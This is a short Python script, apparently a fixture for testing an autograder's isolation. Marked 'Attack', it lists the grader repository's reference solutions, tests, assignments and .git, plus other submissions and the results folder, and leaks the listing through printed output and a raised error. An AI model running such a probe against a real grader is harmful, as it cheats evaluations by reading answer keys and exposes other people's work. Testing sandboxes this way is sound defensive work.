# Attack: read the instructor's files: the grader's repository (reference solutions, tests,
# assignments), other submissions next to this one, and the results folder.
import os

import grader

repo = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))
seen = []
for path in [os.path.join(repo, name) for name in ("reference", "tests", "assignments", ".git", "README.md", "pyproject.toml")] + ["{{SUBMISSIONS}}", "{{OUT}}"]:
    if os.path.exists(path):
        seen.append(path)
        try:
            seen += [os.path.join(path, n) for n in os.listdir(path)][:20]
        except OSError:
            pass
print("seen:", seen)
raise RuntimeError(f"seen: {seen}")
